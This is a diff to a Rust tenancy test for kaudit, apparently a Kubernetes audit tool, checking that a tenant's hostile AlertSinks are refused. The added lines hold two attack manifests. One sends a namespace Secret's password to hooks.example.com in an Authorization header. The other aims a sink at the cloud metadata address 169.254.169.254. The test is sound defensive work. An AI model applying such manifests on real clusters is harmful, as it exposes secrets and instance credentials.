@@ -241,8 +241,57 @@ async fn tenancy_real_rbac_refuses_other_namespaces_and_team_b_events_never_reac
         if s == "True" { Ok(()) } else { Err(s) }
     })
     .await;
+    // alice's attacks on kaudit itself fail in her sinks' statuses, which she can read: a
+    // Secret of her namespace she did not opt in, and the cloud metadata server.
+    c.kubectl_ok(
+        &c.admin,
+        &[
+            "create",
+            "secret",
+            "generic",
+            "db",
+            "-n",
+            "team-a",
+            "--from-literal=password=x",
+        ],
+    );
+    let hostile = "apiVersion: kaudit.io/v1alpha1\nkind: AlertSink\n\
+         metadata: {name: steal, namespace: team-a}\n\
+         spec:\n  type: http\n  settings: {url: 'https://hooks.example.com/'}\n  \
+         secretRefs: [{setting: header_files.Authorization, name: db, key: password}]\n---\n\
+         apiVersion: kaudit.io/v1alpha1\nkind: AlertSink\n\
+         metadata: {name: imds, namespace: team-a}\n\
+         spec:\n  type: http\n  settings: {url: 'http://169.254.169.254/latest/meta-data/'}\n";
+    c.kubectl_in_ok(&alice, &["apply", "-f", "-"], hostile.as_bytes());
+    for (sink, why) in [
+        ("steal", "kaudit.io/sink-credentials"),
+        ("imds", "169.254.169.254"),
+    ] {
+        eventually(&format!("alice's sink {sink} refused"), WAIT, || async {
+            let out = c.kubectl(
+                &alice,
+                &[
+                    "get",
+                    "alertsink",
+                    sink,
+                    "-n",
+                    "team-a",
+                    "-o",
+                    "jsonpath={.status.conditions[?(@.type==\"Valid\")].status} {.status.conditions[?(@.type==\"Valid\")].message}",
+                ],
+            );
+            let s = String::from_utf8_lossy(&out.stdout).to_string();
+            if s.starts_with("False") && s.contains(why) { Ok(()) } else { Err(s) }
+        })
+        .await;
+    }
     let run = tempfile::tempdir().expect("temp dir");
     let config = materialize(&c, "kaudit-system", "kaudit", run.path());
+    let rendered = std::fs::read_to_string(&config).expect("config");
+    assert!(
+        !rendered.contains("ns_team-a_steal") && !rendered.contains("ns_team-a_imds"),
+        "{rendered}"
+    );
     let _kaudit = serve(&c, "kaudit", &config, port).await;
     let data = run.path().join("data");
 
